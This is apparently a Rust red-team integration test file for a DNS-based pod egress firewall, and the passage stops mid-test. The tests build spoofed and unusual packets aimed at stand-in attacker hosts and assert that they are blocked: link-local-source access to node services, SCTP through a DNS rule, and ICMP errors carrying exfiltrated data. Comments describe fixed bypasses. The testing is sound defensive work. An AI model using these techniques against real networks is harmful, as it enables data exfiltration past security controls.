//! Red-team attempts from the enforced `web` pod, made for real in the lab. Each test
//! asserts that the traffic is blocked. The attempts that got through when the review was
//! made carry a `// Found by the red-team review, fixed:` comment and now guard the fix.
//!
//! Run: `cargo test -p dnsfence --test integration -- redteam:: --nocapture`

use crate::common;

use std::io::{Read, Write};
use std::net::{IpAddr, Ipv6Addr, SocketAddr, SocketAddrV6, TcpListener, UdpSocket};
use std::os::fd::{AsRawFd, OwnedFd};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use common::{a, blocked, env, ip, reach, WorldCounter};
use dnsfence_lab::{Netns, Outcome, Pod, Rec, DNS_V4};
use nix::sys::socket::{
    bind, connect, sendto, setsockopt, socket, sockopt, AddressFamily, MsgFlags, SockFlag,
    SockProtocol, SockType, SockaddrIn, SockaddrIn6,
};
use nix::sys::time::{TimeVal, TimeValLike};

// ---------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------

/// The IPv6 link-local address of `dev` in `ns`.
fn link_local(ns: &Netns, dev: &str) -> Ipv6Addr {
    let out = ns
        .command("ip")
        .args(["-6", "-o", "addr", "show", "dev", dev, "scope", "link"])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let word = text
        .split_whitespace()
        .skip_while(|w| *w != "inet6")
        .nth(1)
        .unwrap_or_else(|| panic!("no link-local on {dev}: {text}"));
    word.split('/').next().unwrap().parse().unwrap()
}

fn ifindex(ns: &Netns, dev: &'static str) -> u32 {
    ns.run(move || nix::net::if_::if_nametoindex(dev).unwrap())
        .unwrap()
}

/// A service a test runs somewhere (the node, a pod): TCP and UDP on `port`, dual stack,
/// counting connections and datagrams.
struct Service {
    tcp: Arc<AtomicUsize>,
    udp: Arc<AtomicUsize>,
}

impl Service {
    fn start(ns: &Netns, port: u16) -> Self {
        let (listener, udp) = ns
            .run(move || {
                (
                    TcpListener::bind(("::", port)).unwrap(),
                    UdpSocket::bind(("::", port)).unwrap(),
                )
            })
            .unwrap();
        let tcp_count = Arc::new(AtomicUsize::new(0));
        let udp_count = Arc::new(AtomicUsize::new(0));
        let c = tcp_count.clone();
        std::thread::spawn(move || {
            for s in listener.incoming() {
                let Ok(mut s) = s else { return };
                c.fetch_add(1, Ordering::SeqCst);
                let _ = s.write_all(b"secret from service\n");
            }
        });
        let c = udp_count.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 2000];
            while let Ok((n, from)) = udp.recv_from(&mut buf) {
                c.fetch_add(1, Ordering::SeqCst);
                let _ = udp.send_to(&buf[..n], from);
            }
        });
        Self {
            tcp: tcp_count,
            udp: udp_count,
        }
    }
    fn tcp(&self) -> usize {
        std::thread::sleep(Duration::from_millis(100));
        self.tcp.load(Ordering::SeqCst)
    }
    fn udp(&self) -> usize {
        std::thread::sleep(Duration::from_millis(100));
        self.udp.load(Ordering::SeqCst)
    }
}

/// TCP connect from `ns`, bound to `from` (port 0), to `to`; returns the first bytes read
/// when the connection succeeded.
fn tcp_from(ns: &Netns, from: SocketAddrV6, to: SocketAddrV6) -> Option<String> {
    let fd: OwnedFd = ns
        .run(|| {
            socket(
                AddressFamily::Inet6,
                SockType::Stream,
                SockFlag::empty(),
                None,
            )
        })
        .unwrap()
        .unwrap();
    setsockopt(&fd, sockopt::SendTimeout, &TimeVal::milliseconds(1500)).unwrap();
    setsockopt(&fd, sockopt::ReceiveTimeout, &TimeVal::milliseconds(1500)).unwrap();
    bind(fd.as_raw_fd(), &SockaddrIn6::from(from)).ok()?;
    connect(fd.as_raw_fd(), &SockaddrIn6::from(to)).ok()?;
    let mut s = std::net::TcpStream::from(fd);
    let mut buf = [0u8; 64];
    let n = s.read(&mut buf).unwrap_or(0);
    Some(String::from_utf8_lossy(&buf[..n]).into_owned())
}

/// UDP datagram from `ns`, bound to `from`, to `to`; returns the echo if any came back.
fn udp_from(ns: &Netns, from: SocketAddr, to: SocketAddr, payload: &[u8]) -> Option<Vec<u8>> {
    let s = ns.run(move || UdpSocket::bind(from)).unwrap().ok()?;
    s.set_read_timeout(Some(Duration::from_millis(800)))
        .unwrap();
    for _ in 0..3 {
        let _ = s.send_to(payload, to);
    }
    let mut buf = [0u8; 2000];
    s.recv_from(&mut buf).ok().map(|(n, _)| buf[..n].to_vec())
}

fn crc32c(data: &[u8]) -> u32 {
    let mut crc: u32 = !0;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0x82F6_3B78
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// An SCTP INIT (valid CRC32c) to `dport`, carrying `data` as padding-free payload
/// in an extra DATA-like chunk (the world's counter only looks at the header).
fn sctp_init(dport: u16) -> Vec<u8> {
    let mut p = Vec::new();
    p.extend_from_slice(&40000u16.to_be_bytes());
    p.extend_from_slice(&dport.to_be_bytes());
    p.extend_from_slice(&0u32.to_be_bytes()); // verification tag 0 for INIT
    p.extend_from_slice(&0u32.to_be_bytes()); // checksum, later
                                              // INIT chunk: type 1, flags 0, length 20
    p.extend_from_slice(&[1, 0, 0, 20]);
    p.extend_from_slice(&0x1234_5678u32.to_be_bytes()); // initiate tag
    p.extend_from_slice(&65535u32.to_be_bytes()); // a_rwnd
    p.extend_from_slice(&1u16.to_be_bytes()); // outbound streams
    p.extend_from_slice(&1u16.to_be_bytes()); // inbound streams
    p.extend_from_slice(&1u32.to_be_bytes()); // initial TSN
    let ck = crc32c(&p);
    p[8..12].copy_from_slice(&ck.to_le_bytes());
    p
}

/// An IP header (v4 or v6) from `src` to `dst` with protocol `proto` around `payload`.
fn ip_packet(src: IpAddr, dst: IpAddr, proto: u8, payload: &[u8]) -> Vec<u8> {
    let mut p = Vec::new();
    match (src, dst) {
        (IpAddr::V4(s), IpAddr::V4(d)) => {
            let len = (20 + payload.len()) as u16;
            p.extend_from_slice(&[0x45, 0]);
            p.extend_from_slice(&len.to_be_bytes());
            p.extend_from_slice(&[0, 0, 0, 0, 64, proto, 0, 0]);
            p.extend_from_slice(&s.octets());
            p.extend_from_slice(&d.octets());
        }
        (IpAddr::V6(s), IpAddr::V6(d)) => {
            p.extend_from_slice(&[0x60, 0, 0, 0]);
            p.extend_from_slice(&(payload.len() as u16).to_be_bytes());
            p.extend_from_slice(&[proto, 64]);
            p.extend_from_slice(&s.octets());
            p.extend_from_slice(&d.octets());
        }
        _ => panic!("mixed families"),
    }
    p.extend_from_slice(payload);
    p
}

/// The Internet checksum (RFC 1071) of the concatenated `parts` (a pseudo-header's
/// fields, then the message).
fn checksum(parts: &[&[u8]]) -> u16 {
    let bytes = parts.concat();
    let mut sum: u32 = 0;
    for pair in bytes.chunks(2) {
        sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
    }
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// An ICMP port unreachable quoting a UDP packet `from`:`sport` -> `to`:`dport` (as if
/// `to` could not deliver it), followed by data to smuggle; its checksum set.
fn icmp_unreachable_quoting(from: [u8; 4], sport: u16, to: [u8; 4], dport: u16) -> Vec<u8> {
    let mut msg = vec![3u8, 3, 0, 0, 0, 0, 0, 0];
    msg.extend_from_slice(&[0x45, 0, 0, 30, 0, 0, 0, 0, 64, 17, 0, 0]);
    msg.extend_from_slice(&from);
    msg.extend_from_slice(&to);
    msg.extend_from_slice(&sport.to_be_bytes());
    msg.extend_from_slice(&dport.to_be_bytes());
    msg.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMP-ERROR");
    let ck = checksum(&[&msg[..]]);
    msg[2..4].copy_from_slice(&ck.to_be_bytes());
    msg
}

/// Sends `packet` (a whole IP packet, header included) from `ns` towards `to`.
fn send_packet(ns: &Netns, to: IpAddr, packet: &[u8]) {
    let v4 = to.is_ipv4();
    let fd: OwnedFd = ns
        .run(move || {
            let family = if v4 {
                AddressFamily::Inet
            } else {
                AddressFamily::Inet6
            };
            socket(family, SockType::Raw, SockFlag::empty(), SockProtocol::Raw)
        })
        .unwrap()
        .unwrap();
    for _ in 0..3 {
        let r = match to {
            IpAddr::V4(v) => sendto(
                fd.as_raw_fd(),
                packet,
                &SockaddrIn::from(std::net::SocketAddrV4::new(v, 0)),
                MsgFlags::empty(),
            ),
            IpAddr::V6(v) => sendto(
                fd.as_raw_fd(),
                packet,
                &SockaddrIn6::from(SocketAddrV6::new(v, 0, 0, 0)),
                MsgFlags::empty(),
            ),
        };
        if let Err(e) = r {
            println!("send to {to}: {e}");
        }
    }
    std::thread::sleep(Duration::from_millis(300));
}

/// Sends `payload` with IP protocol `proto` from `pod`'s own address to `to`.
fn send_raw(pod: &Pod, proto: u8, to: IpAddr, payload: &[u8]) {
    let src = if to.is_ipv4() {
        IpAddr::V4(pod.ipv4())
    } else {
        IpAddr::V6(pod.ipv6())
    };
    send_packet(pod.netns(), to, &ip_packet(src, to, proto, payload));
}

/// A DNS message: header fields then one question (`labels`, qtype), then `extra` bytes
/// appended verbatim (counted by `arcount`).
fn dns_msg(
    id: u16,
    flags: u16,
    labels: &[&[u8]],
    qtype: u16,
    arcount: u16,
    extra: &[u8],
) -> Vec<u8> {
    let mut q = Vec::new();
    q.extend_from_slice(&id.to_be_bytes());
    q.extend_from_slice(&flags.to_be_bytes());
    q.extend_from_slice(&1u16.to_be_bytes());
    q.extend_from_slice(&[0, 0, 0, 0]);
    q.extend_from_slice(&arcount.to_be_bytes());
    for l in labels {
        q.push(l.len() as u8);
        q.extend_from_slice(l);
    }
    q.push(0);
    q.extend_from_slice(&qtype.to_be_bytes());
    q.extend_from_slice(&[0, 1]);
    q.extend_from_slice(extra);
    q
}

fn rcode(pod: &Pod, to: SocketAddr, query: &[u8]) -> Option<u8> {
    pod.udp_exchange(to, query, Duration::from_millis(1500))
        .ok()
        .filter(|r| r.len() >= 4 && r[..2] == query[..2])
        .map(|r| r[3] & 0x0f)
}

const REFUSED: u8 = 5;

/// Sends a DNS query from `pod` to `server`:53, which its policy does not allow (the
/// redirect answers it REFUSED in the server's name); the query's source port.
fn refused_dns(pod: &Pod, server: IpAddr) -> u16 {
    let any = if server.is_ipv4() {
        "0.0.0.0:0"
    } else {
        "[::]:0"
    };
    let sock = pod.netns().run(|| UdpSocket::bind(any)).unwrap().unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
    let query = dns_msg(0x4242, 0x0100, &[b"api", b"example", b"com"], 1, 0, &[]);
    sock.send_to(&query, SocketAddr::new(server, 53)).unwrap();
    let mut b = [0u8; 512];
    let (n, _) = sock.recv_from(&mut b).expect("the proxy answers");
    assert_eq!(b.get(3).map(|f| f & 0x0f), Some(REFUSED), "{:?}", &b[..n]);
    sock.local_addr().unwrap().port()
}

// ---------------------------------------------------------------------------------------
// The node itself (input hook)
// ---------------------------------------------------------------------------------------

/// Control: the node's services are not reachable from web with its own addresses.
#[test]
fn redteam_node_services_blocked_with_pod_addresses() {
    let Some(env) = env(vec![]) else { return };
    let svc = Service::start(env.lab.node(), 7777);
    for node_ip in [
        IpAddr::V4(env.web().gateway_v4()),
        IpAddr::V6(env.web().gateway_v6()),
        ip("10.201.0.1"),
        ip("10.200.2.1"),
    ] {
        assert!(blocked(reach(env.web(), node_ip, 7777)), "{node_ip}");
        assert!(
            env.web()
                .udp_exchange(
                    SocketAddr::new(node_ip, 7777),
                    b"x",
                    Duration::from_millis(500)
                )
                .is_err(),
            "{node_ip}"
        );
    }
    assert_eq!(svc.tcp(), 0);
    assert_eq!(svc.udp(), 0);
    // The plain pod (no policy) does reach it: the service is there.
    assert_eq!(
        reach(env.plain(), IpAddr::V4(env.plain().gateway_v4()), 7777),
        Outcome::Connected
    );
}

// Found by the red-team review, fixed: an enforced pod reaches every service of the node (kubelet, node-exporter,
// dnsfence's own metrics...) from its IPv6 link-local address: prerouting exempts
// fe80::/10 sources from source validation "for neighbour discovery", and the input
// chain's `ip6 saddr vmap @ep6` never matches them, so the chain's accept policy applies.
#[test]
fn redteam_node_services_from_ipv6_link_local_source() {
    let Some(env) = env(vec![]) else { return };
    let svc = Service::start(env.lab.node(), 7777);
    let web_ns = env.web().netns();
    let scope = ifindex(web_ns, "eth0");
    let web_ll = link_local(web_ns, "eth0");
    let node_ll = link_local(env.lab.node(), &env.web().node_interface());
    let from = SocketAddrV6::new(web_ll, 0, 0, scope);

    // To the node's link-local address (the source is chosen naturally: link-local).
    let got_ll = tcp_from(web_ns, from, SocketAddrV6::new(node_ll, 7777, 0, scope));
    // To the node's global (ULA) addresses, from the link-local source.
    let got_ula = tcp_from(
        web_ns,
        from,
        SocketAddrV6::new(env.web().gateway_v6(), 7777, 0, 0),
    );
    let got_world_side = tcp_from(
        web_ns,
        from,
        SocketAddrV6::new("fd00:201::1".parse().unwrap(), 7777, 0, 0),
    );
    let udp = udp_from(
        web_ns,
        SocketAddr::V6(from),
        SocketAddr::V6(SocketAddrV6::new(node_ll, 7777, 0, scope)),
        b"exfil-over-udp",
    );
    println!(
        "link-local -> node: ll={got_ll:?} ula={got_ula:?} world-side={got_world_side:?} udp={udp:?}; node service saw tcp={} udp={}",
        svc.tcp(),
        svc.udp()
    );
    assert_eq!(got_ll, None, "node link-local address reachable");
    assert_eq!(
        got_ula, None,
        "node ULA address reachable from link-local source"
    );
    assert_eq!(got_world_side, None, "node world-side address reachable");
    assert_eq!(udp, None, "UDP to node from link-local source");
    assert_eq!(svc.tcp(), 0);
    assert_eq!(svc.udp(), 0);
}

// The proxy's own transparent port, asked directly from the link-local source: an unknown
// client, so REFUSED (the default `unknown_clients: refuse`).
#[test]
fn redteam_proxy_port_direct_from_link_local_is_refused() {
    let Some(env) = env(vec![]) else { return };
    let web_ns = env.web().netns();
    let scope = ifindex(web_ns, "eth0");
    let web_ll = link_local(web_ns, "eth0");
    let node_ll = link_local(env.lab.node(), &env.web().node_interface());
    let q = dns_msg(
        0x4242,
        0x0100,
        &[b"exfil-data", b"attacker", b"net"],
        1,
        0,
        &[],
    );
    let watch = WorldCounter::new(&env, &[("dns", "udp dport 53".to_owned())]);
    let ans = udp_from(
        web_ns,
        SocketAddr::V6(SocketAddrV6::new(web_ll, 0, 0, scope)),
        SocketAddr::V6(SocketAddrV6::new(node_ll, 15053, 0, scope)),
        &q,
    );
    println!("proxy direct from link-local: {ans:?}");
    if let Some(a) = &ans {
        assert_eq!(a[3] & 0x0f, REFUSED);
    }
    assert_eq!(watch.count("dns"), 0, "the query reached the world's DNS");
}

// Found by the red-team review, fixed: same root cause as the link-local case: the unspecified source `::` is exempt
// from source validation and matches nothing in `ep6`, so the input chain accepts it:
// one-way UDP (blind, spoofable) into any node service.
#[test]
fn redteam_node_service_from_unspecified_source() {
    let Some(env) = env(vec![]) else { return };
    let svc = Service::start(env.lab.node(), 7777);
    let web_ns = env.web().netns();
    // A raw UDP/IPv6 packet with source :: is easiest with IPV6_HDRINCL-free trick: bind
    // to :: (the kernel then chooses a source), so write the whole IPv6 header ourselves.
    let dst = env.web().gateway_v6();
    let payload = b"from-unspecified";
    let mut udp = Vec::new();
    udp.extend_from_slice(&40000u16.to_be_bytes());
    udp.extend_from_slice(&7777u16.to_be_bytes());
    udp.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    udp.extend_from_slice(&[0, 0]);
    udp.extend_from_slice(payload);
    // checksum over the pseudo-header
    let ck = checksum(&[
        &Ipv6Addr::UNSPECIFIED.octets(),
        &dst.octets(),
        &(udp.len() as u32).to_be_bytes(),
        &[0, 0, 0, 17],
        &udp,
    ]);
    udp[6..8].copy_from_slice(&ck.to_be_bytes());
    let mut pkt = vec![0x60, 0, 0, 0];
    pkt.extend_from_slice(&(udp.len() as u16).to_be_bytes());
    pkt.extend_from_slice(&[17, 64]);
    pkt.extend_from_slice(&Ipv6Addr::UNSPECIFIED.octets());
    pkt.extend_from_slice(&dst.octets());
    pkt.extend_from_slice(&udp);
    send_packet(web_ns, IpAddr::V6(dst), &pkt);
    println!(
        "udp datagrams from :: seen by the node's service: {}",
        svc.udp()
    );
    assert_eq!(svc.udp(), 0, "a datagram from :: reached a node service");
}

// ---------------------------------------------------------------------------------------
// Link-local / forged sources toward the world
// ---------------------------------------------------------------------------------------

#[test]
fn redteam_link_local_source_toward_world_is_not_forwarded() {
    let Some(env) = env(vec![]) else { return };
    let web_ns = env.web().netns();
    let scope = ifindex(web_ns, "eth0");
    let web_ll = link_local(web_ns, "eth0");
    let watch = WorldCounter::new(
        &env,
        &[("ll", "ip6 saddr fe80::/10 udp dport 9000".to_owned())],
    );
    let _ = udp_from(
        web_ns,
        SocketAddr::V6(SocketAddrV6::new(web_ll, 0, 0, scope)),
        "[2001:db8::99]:9000".parse().unwrap(),
        b"exfil",
    );
    assert_eq!(watch.count("ll"), 0, "{}", env.diag());
}

// The node's own addresses (and the unspecified address) as source, toward the world and
// the node: raw packets, no address added in the pod.
#[test]
fn redteam_node_address_as_source_is_dropped() {
    let Some(env) = env(vec![]) else { return };
    let svc = Service::start(env.lab.node(), 7777);
    let watch = WorldCounter::new(
        &env,
        &[
            (
                "v4",
                "ip saddr { 10.200.0.0/16, 10.201.0.1, 0.0.0.0 } udp dport 9000".to_owned(),
            ),
            ("v6", "ip6 saddr { fd00::/8, :: } udp dport 9000".to_owned()),
        ],
    );
    let udp = |dport: u16| {
        let mut u = Vec::new();
        u.extend_from_slice(&40000u16.to_be_bytes());
        u.extend_from_slice(&dport.to_be_bytes());
        u.extend_from_slice(&13u16.to_be_bytes());
        u.extend_from_slice(&[0, 0]);
        u.extend_from_slice(b"spoof");
        u
    };
    let web = env.web().netns();
    for (src, dst, port) in [
        ("10.200.0.1", "203.0.113.66", 9000),
        ("10.201.0.1", "203.0.113.66", 9000),
        ("0.0.0.0", "203.0.113.66", 9000),
        ("0.0.0.0", "10.200.0.1", 7777),
        ("fd00:200::1", "2001:db8::99", 9000),
        ("fd00:201::1", "2001:db8::99", 9000),
        ("::", "2001:db8::99", 9000),
    ] {
        send_packet(web, ip(dst), &ip_packet(ip(src), ip(dst), 17, &udp(port)));
    }
    assert_eq!(watch.count("v4"), 0, "{}", env.diag());
    assert_eq!(watch.count("v6"), 0);
    assert_eq!(svc.udp(), 0, "0.0.0.0 -> node service");
}

// IPv6 extension headers in front of UDP: a destination-options header and an atomic
// fragment, to the learned IPv6 of api.example.com on a port it does not allow, and to an
// address nobody resolved.
#[test]
fn redteam_ipv6_extension_headers_do_not_hide_the_port() {
    let Some(env) = env(vec![]) else { return };
    let (_, v6) = common::resolve(
        env.web(),
        "api.example.com",
        dnsfence_lab::RecordType::AAAA,
        dnsfence_lab::Transport::Udp,
    );
    let api6 = v6[0];
    let watch = WorldCounter::new(
        &env,
        &[
            ("api9001", format!("ip6 daddr {api6} udp dport 9001")),
            ("api_any", format!("ip6 daddr {api6} meta l4proto != udp")),
            ("evil", "ip6 daddr 2001:db8::99".to_owned()),
            ("control", format!("ip6 daddr {api6} udp dport 9000")),
        ],
    );
    // Control: the allowed port behind a destination-options header arrives.
    let mut ok = vec![17u8, 0, 1, 4, 0, 0, 0, 0];
    ok.extend_from_slice(&40000u16.to_be_bytes());
    ok.extend_from_slice(&9000u16.to_be_bytes());
    ok.extend_from_slice(&13u16.to_be_bytes());
    ok.extend_from_slice(&[0, 0]);
    ok.extend_from_slice(b"exthd");
    send_packet(
        env.web().netns(),
        api6,
        &ip_packet(IpAddr::V6(env.web().ipv6()), api6, 60, &ok),
    );
    assert!(watch.count("control") > 0, "control did not arrive");
    let mut udp = Vec::new();
    udp.extend_from_slice(&40000u16.to_be_bytes());
    udp.extend_from_slice(&9001u16.to_be_bytes());
    udp.extend_from_slice(&13u16.to_be_bytes());
    udp.extend_from_slice(&[0, 0]);
    udp.extend_from_slice(b"exthd");
    // Destination options (next header UDP, length 0, PadN of 4 bytes).
    let mut dopt = vec![17u8, 0, 1, 4, 0, 0, 0, 0];
    dopt.extend_from_slice(&udp);
    // Atomic fragment header (next UDP, offset 0, M=0).
    let mut frag = vec![17u8, 0, 0, 0, 0, 0, 0, 42];
    frag.extend_from_slice(&udp);
    // Hop-by-hop then destination options.
    let mut hbh = vec![60u8, 0, 1, 4, 0, 0, 0, 0];
    hbh.extend_from_slice(&dopt);
    let src = IpAddr::V6(env.web().ipv6());
    for to in [api6, ip("2001:db8::99")] {
        send_packet(env.web().netns(), to, &ip_packet(src, to, 60, &dopt));
        send_packet(env.web().netns(), to, &ip_packet(src, to, 44, &frag));
        send_packet(env.web().netns(), to, &ip_packet(src, to, 0, &hbh));
    }
    assert_eq!(watch.count("api9001"), 0, "{}", env.diag());
    assert_eq!(watch.count("api_any"), 0);
    assert_eq!(watch.count("evil"), 0);
}

// ---------------------------------------------------------------------------------------
// Protocols the DNS rule's "ANY" lets through without the proxy
// ---------------------------------------------------------------------------------------

// Found by the red-team review, fixed: the DNS rule `port 53 protocol ANY` compiles to `meta l4proto { tcp, udp, sctp }
// th dport 53 accept` in the policy chain, but only TCP and UDP are TPROXY'd to the proxy.
// SCTP to the resolver's port 53 is forwarded as is: an unfiltered, non-DNS channel to
// the DNS server's address (L7 DNS rules must mean "only DNS the proxy checked").
#[test]
fn redteam_sctp_to_dns_server_port_53_bypasses_the_proxy() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[
            ("sctp53", "ip daddr 192.0.2.53 meta l4proto sctp".to_owned()),
            (
                "sctp53v6",
                "ip6 daddr 2001:db8::53 meta l4proto sctp".to_owned(),
            ),
            (
                "sctp_api",
                "ip daddr 192.0.2.10 meta l4proto sctp".to_owned(),
            ),
            (
                "sctp_evil",
                "ip daddr 203.0.113.66 meta l4proto sctp".to_owned(),
            ),
        ],
    );
    // api.example.com's toPorts are 443/TCP and 9000/UDP: no SCTP even on 443.
    a(env.web(), "api.example.com");
    send_raw(env.web(), 132, ip("192.0.2.10"), &sctp_init(443));
    send_raw(env.web(), 132, ip("203.0.113.66"), &sctp_init(53));
    assert_eq!(watch.count("sctp_api"), 0, "{}", env.diag());
    assert_eq!(watch.count("sctp_evil"), 0);
    send_raw(env.web(), 132, DNS_V4.ip(), &sctp_init(53));
    send_raw(env.web(), 132, ip("2001:db8::53"), &sctp_init(53));
    println!(
        "SCTP to resolver:53 arrived in the world: v4={} v6={}",
        watch.count("sctp53"),
        watch.count("sctp53v6")
    );
    assert_eq!(
        watch.count("sctp53"),
        0,
        "SCTP reached 192.0.2.53:53 unfiltered"
    );
    assert_eq!(
        watch.count("sctp53v6"),
        0,
        "SCTP reached [2001:db8::53]:53 unfiltered"
    );
}

// Other IP protocols (GRE 47, UDP-Lite 136, an unassigned 253) toward allowed-by-CIDR-on-
// port-53 and learned destinations.
#[test]
fn redteam_other_ip_protocols_are_refused() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[
            (
                "dns",
                "ip daddr 192.0.2.53 meta l4proto != { tcp, udp, sctp }".to_owned(),
            ),
            (
                "api",
                "ip daddr 192.0.2.10 meta l4proto != { tcp, udp }".to_owned(),
            ),
            ("evil", "ip daddr 203.0.113.66".to_owned()),
        ],
    );
    a(env.web(), "api.example.com");
    let mut payload = vec![0u8; 8];
    payload[2..4].copy_from_slice(&53u16.to_be_bytes());
    for proto in [47, 136, 253, 33] {
        for to in ["192.0.2.53", "192.0.2.10", "203.0.113.66"] {
            send_raw(env.web(), proto, ip(to), &payload);
        }
    }
    assert_eq!(watch.count("dns"), 0);
    assert_eq!(watch.count("api"), 0);
    assert_eq!(watch.count("evil"), 0);
}

// ICMP types other than echo (timestamp, an unreachable error) to a learned IP narrowed to
// TCP 443, and to an address nobody resolved.
#[test]
fn redteam_icmp_other_types_are_refused() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[
            ("api", "ip daddr 192.0.2.10 ip protocol icmp".to_owned()),
            ("evil", "ip daddr 203.0.113.66 ip protocol icmp".to_owned()),
        ],
    );
    a(env.web(), "api.example.com");
    let mut ts = vec![13u8, 0, 0, 0, 0x12, 0x34, 0, 1];
    ts.extend_from_slice(&[0; 12]);
    let mut unreach = vec![3u8, 3, 0, 0, 0, 0, 0, 0];
    unreach.extend_from_slice(&[0x45, 0, 0, 28, 0, 0, 0, 0, 64, 17, 0, 0]);
    unreach.extend_from_slice(&[192, 0, 2, 10, 10, 200, 0, 2]);
    unreach.extend_from_slice(&[0, 53, 0x9c, 0x40, 0, 8, 0, 0]);
    for msg in [&mut ts, &mut unreach] {
        let ck = checksum(&[&msg[..]]);
        msg[2..4].copy_from_slice(&ck.to_be_bytes());
    }
    for to in ["192.0.2.10", "203.0.113.66"] {
        send_raw(env.web(), 1, ip(to), &ts);
        send_raw(env.web(), 1, ip(to), &unreach);
    }
    assert_eq!(watch.count("api"), 0, "{}", env.diag());
    assert_eq!(watch.count("evil"), 0);
}

// An ICMP error crafted by the pod that references an allowed, established flow, sent to
// a destination the policy denies: conntrack must not call it "related".
#[test]
fn redteam_crafted_related_icmp_error_to_denied_destination() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[("evil", "ip daddr 203.0.113.66 ip protocol icmp".to_owned())],
    );
    let api = a(env.web(), "api.example.com")[0];
    // A live, allowed UDP flow: web:P -> api:9000.
    let sock = env
        .web()
        .netns()
        .run(|| UdpSocket::bind("0.0.0.0:0"))
        .unwrap()
        .unwrap();
    sock.connect(SocketAddr::new(api, 9000)).unwrap();
    sock.set_read_timeout(Some(Duration::from_secs(1))).unwrap();
    sock.send(b"hi").unwrap();
    let mut b = [0u8; 16];
    assert!(sock.recv(&mut b).is_ok(), "control flow");
    let sport = sock.local_addr().unwrap().port();
    let web4 = env.web().ipv4().octets();
    // ICMP port unreachable quoting the reply packet api:9000 -> web:sport, sent to evil.
    let msg = icmp_unreachable_quoting([192, 0, 2, 10], 9000, web4, sport);
    send_raw(env.web(), 1, ip("203.0.113.66"), &msg);
    assert_eq!(watch.count("evil"), 0, "{}", env.diag());
}

// Found by the red-team review, fixed: a DNS query to any address leaves a conntrack
// entry (the proxy answers it in the server's name), and an ICMP error quoting its answer
// was "related" to it, so it left for that address with whatever payload it carried.
#[test]
fn redteam_icmp_error_related_to_redirected_dns_does_not_leave() {
    let Some(env) = env(vec![]) else { return };
    let watch = WorldCounter::new(
        &env,
        &[("evil", "ip daddr 203.0.113.66 ip protocol icmp".to_owned())],
    );
    let sport = refused_dns(env.web(), ip("203.0.113.66"));
    // ICMP port unreachable quoting that answer (203.0.113.66:53 -> web:sport).
    let msg = icmp_unreachable_quoting([203, 0, 113, 66], 53, env.web().ipv4().octets(), sport);
    send_raw(env.web(), 1, ip("203.0.113.66"), &msg);
    assert_eq!(watch.count("evil"), 0, "{}", env.diag());
}

// The same over IPv6: an ICMPv6 error quoting the proxy's answer does not leave either.
#[test]
fn redteam_icmpv6_error_related_to_redirected_dns_does_not_leave() {
    let Some(env) = env(vec![]) else { return };
    let evil: Ipv6Addr = "2001:db8::66".parse().unwrap();
    let watch = WorldCounter::new(
        &env,
        &[
            ("evil", format!("ip6 daddr {evil} meta l4proto ipv6-icmp")),
            ("routed", format!("ip6 daddr {evil} udp dport 9")),
        ],
    );
    // Control: the address is routed to the world (from the pod no policy enforces).
    let plain = env
        .plain()
        .netns()
        .run(|| UdpSocket::bind("[::]:0"))
        .unwrap()
        .unwrap();
    plain
        .send_to(b"x", SocketAddr::new(IpAddr::V6(evil), 9))
        .unwrap();
    assert_eq!(watch.count("routed"), 1, "{}", env.diag());
    let sport = refused_dns(env.web(), IpAddr::V6(evil));
    let web6 = env.web().ipv6();
    // ICMPv6 port unreachable quoting that answer ([evil]:53 -> [web]:sport).
    let mut quoted = vec![0x60, 0, 0, 0, 0, 10, 17, 64];
    quoted.extend_from_slice(&evil.octets());
    quoted.extend_from_slice(&web6.octets());
    quoted.extend_from_slice(&53u16.to_be_bytes());
    quoted.extend_from_slice(&sport.to_be_bytes());
    quoted.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
    let mut msg = vec![1u8, 4, 0, 0, 0, 0, 0, 0];
    msg.extend_from_slice(&quoted);
    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMPV6-ERROR");
    let ck = checksum(&[
        &web6.octets(),
        &evil.octets(),
        &(msg.len() as u32).to_be_bytes(),
        &[0, 0, 0, 58],
        &msg,
    ]);
    msg[2..4].copy_from_slice(&ck.to_be_bytes());
    send_raw(env.web(), 58, IpAddr::V6(evil), &msg);
    assert_eq!(watch.count("evil"), 0, "{}", env.diag());
}

// Found by the red-team review, fixed: a pod the policy does not enforce could send DNS
// under an enforced pod's address; the proxy took it for that pod's (its identity, its
// rules, its learning) and answered that pod.
#[test]
fn redteam_another_pod_cannot_speak_dns_as_an_enforced_pod() {
    let Some(env) = env(vec![]) else { return };
    let victim = env
        .web()
        .netns()
        .run(|| UdpSocket::bind("0.0.0.0:0"))
        .unwrap()
        .unwrap();
    victim
        .set_read_timeout(Some(Duration::from_millis(1500)))
        .unwrap();
    let port = victim.local_addr().unwrap().port();
    let query = dns_msg(0x5151, 0x0100, &[b"api", b"example", b"com"], 1, 0, &[]);
    let mut udp = Vec::new();
    udp.extend_from_slice(&port.to_be_bytes());
    udp.extend_from_slice(&53u16.to_be_bytes());
    udp.extend_from_slice(&((8 + query.len()) as u16).to_be_bytes());
    udp.extend_from_slice(&[0, 0]); // no checksum (IPv4)
    udp.extend_from_slice(&query);
    let packet = ip_packet(IpAddr::V4(env.web().ipv4()), ip("192.0.2.53"), 17, &udp);
    send_packet(env.plain().netns(), ip("192.0.2.53"), &packet);
    let mut b = [0u8; 512];
    let got = victim.recv_from(&mut b);
